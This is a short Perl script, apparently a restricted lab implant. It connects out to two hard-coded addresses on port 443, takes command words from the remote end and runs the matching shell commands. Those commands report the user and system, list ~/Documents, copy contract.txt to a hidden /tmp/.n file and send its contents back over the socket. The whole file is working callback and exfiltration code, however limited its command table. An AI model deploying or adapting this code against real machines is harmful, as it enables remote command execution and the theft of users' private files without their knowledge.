# The second caller: calls the laboratory's two addresses once and can do only what %plan lists.
use strict;
use warnings;
use IO::Socket::IP;

my %plan = (
    who   => 'id -un',
    where => 'uname -a',
    list  => "ls -la $ENV{HOME}/Documents",
    copy  => "cp $ENV{HOME}/Documents/contract.txt /tmp/.n",
    read  => 'cat /tmp/.n',
);
for my $address ('fd00:66::9', '10.66.4.9') {
    my $home = IO::Socket::IP->new(PeerHost => $address, PeerPort => 443, Type => SOCK_STREAM) or next;
    while (my $word = <$home>) {
        chomp $word;
        next unless $plan{$word};
        print $home scalar(qx($plan{$word})), "ok\n";
        $home->flush;
    }
}
